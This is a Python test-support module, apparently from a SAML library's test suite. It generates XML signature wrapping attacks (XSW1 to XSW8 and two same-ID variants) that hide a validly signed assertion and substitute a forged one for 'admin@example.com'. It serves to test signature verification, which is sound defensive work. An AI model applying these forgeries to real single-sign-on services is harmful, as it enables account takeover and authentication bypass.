"""Signature wrapping attacks, XSW1 to XSW8 (Somorovsky et al., 2012).

The signed assertion is moved, and a forged one takes its place.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from tests.support.programs.saml import NAMES, LyingProvider

_EXTENSIONS = "{urn:oasis:names:tc:SAML:2.0:protocol}Extensions"
_OBJECT = "{http://www.w3.org/2000/09/xmldsig#}Object"


class Parts:
    """The pieces that an attacker has: an honest response, and a forged copy of its assertion."""

    def __init__(self, provider: LyingProvider) -> None:
        self.response = provider.honest()
        self.honest = self.response.find("saml:Assertion", NAMES)
        self.forged = provider.assertion(id="_forged", attributes="", name_id="admin@example.com")
        email = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
        self.forged.find("saml:Subject/saml:NameID", NAMES).set("Format", email)
        self.signature = self.honest.find("ds:Signature", NAMES)


def _signed_response_inside_a_forged_one(parts: Parts) -> Any:
    outer = deepcopy(parts.response)
    outer.set("ID", "_outer")
    outer.replace(outer.find("saml:Assertion", NAMES), parts.forged)
    signature = deepcopy(parts.signature)
    etree.SubElement(signature, _OBJECT).append(parts.response)
    outer.insert(1, signature)
    return outer


def _signed_response_before_a_forged_assertion(parts: Parts) -> Any:
    outer = deepcopy(parts.response)
    outer.set("ID", "_outer")
    outer.replace(outer.find("saml:Assertion", NAMES), parts.forged)
    outer.insert(1, parts.response)
    return outer


def _forged_beside(parts: Parts) -> Any:
    parts.honest.addprevious(parts.forged)
    return parts.response


def _honest_in_forged(parts: Parts) -> Any:
    parts.response.replace(parts.honest, parts.forged)
    parts.forged.append(parts.honest)
    return parts.response


def _forged_with_the_signature(parts: Parts) -> Any:
    parts.forged.insert(1, parts.signature)
    parts.honest.addprevious(parts.forged)
    return parts.response


def _honest_in_the_signature(parts: Parts) -> Any:
    parts.response.replace(parts.honest, parts.forged)
    parts.forged.insert(1, parts.signature)
    parts.signature.append(parts.honest)
    return parts.response


def _forged_in_extensions(parts: Parts) -> Any:
    extensions = etree.Element(_EXTENSIONS)
    extensions.append(parts.forged)
    parts.response.insert(1, extensions)
    return parts.response


def _honest_in_an_object(parts: Parts) -> Any:
    parts.response.replace(parts.honest, parts.forged)
    parts.forged.insert(1, parts.signature)
    etree.SubElement(parts.signature, _OBJECT).append(parts.honest)
    return parts.response


def _forged_with_the_same_id(parts: Parts) -> Any:
    parts.forged.set("ID", parts.honest.get("ID"))
    parts.honest.addprevious(parts.forged)
    return parts.response


def _forged_subject_with_the_signed_one_elsewhere(parts: Parts) -> Any:
    """Move a copy of the assertion's content under the signed id, into another element."""
    parts.honest.set("ID", "_renamed")
    aside = etree.SubElement(parts.honest, "{urn:oasis:names:tc:SAML:2.0:assertion}Advice", ID="_assertion")
    aside.extend(deepcopy(list(parts.honest)))
    return parts.response


WRAPPINGS: dict[str, Callable[[Parts], Any]] = {
    "XSW1": _signed_response_inside_a_forged_one,
    "XSW2": _signed_response_before_a_forged_assertion,
    "XSW3": _forged_beside,
    "XSW4": _honest_in_forged,
    "XSW5": _forged_with_the_signature,
    "XSW6": _honest_in_the_signature,
    "XSW7": _forged_in_extensions,
    "XSW8": _honest_in_an_object,
    "the same id twice": _forged_with_the_same_id,
    "the signed id on another element": _forged_subject_with_the_signed_one_elsewhere,
}
